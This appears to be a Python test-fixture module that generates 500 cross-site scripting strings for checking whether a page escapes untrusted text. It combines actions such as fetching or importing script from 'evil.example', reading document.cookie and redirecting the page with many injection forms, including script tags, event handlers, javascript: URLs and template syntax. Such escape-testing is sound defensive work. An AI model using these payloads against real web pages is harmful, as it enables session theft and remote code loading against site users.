"""Texts that would do something on a page that does not escape them (reliability S3)."""

from __future__ import annotations

from itertools import product

_DEEDS = (
    "alert(1)",
    "fetch('//evil.example')",
    "document.cookie",
    "import('//evil.example/x.js')",
    "top.location='//evil.example'",
)
_SHAPES = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    '"><svg onload={}>',
    "'><iframe srcdoc='<script>{}</script>'>",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "</td></tr></table><body onload={}>",
    "<a href=javascript:{}>x</a>",
    "javascript:{}",
    "JaVaScRiPt:{}",
    "data:text/html,<script>{}</script>",
    "{{{{{}}}}}",
    "{{% {} %}}",
    "${{{}}}",
    "<!--<script>{}//-->",
    "]]><script>{}</script>",
    "<style>@import '//evil.example';</style>{}",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='//evil.example/'>{}",
    "<object data='javascript:{}'></object>",
    "<math><mtext><script>{}</script></mtext></math>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "\u202e<script>{}</script>",
    "<details open ontoggle={}>",
)
_WRAPS = ("{}", " {}", "Тақырып {}", "{}\u2028")

STRINGS = tuple(wrap.format(shape.format(deed)) for deed, shape, wrap in product(_DEEDS, _SHAPES, _WRAPS))
"""500 of them."""
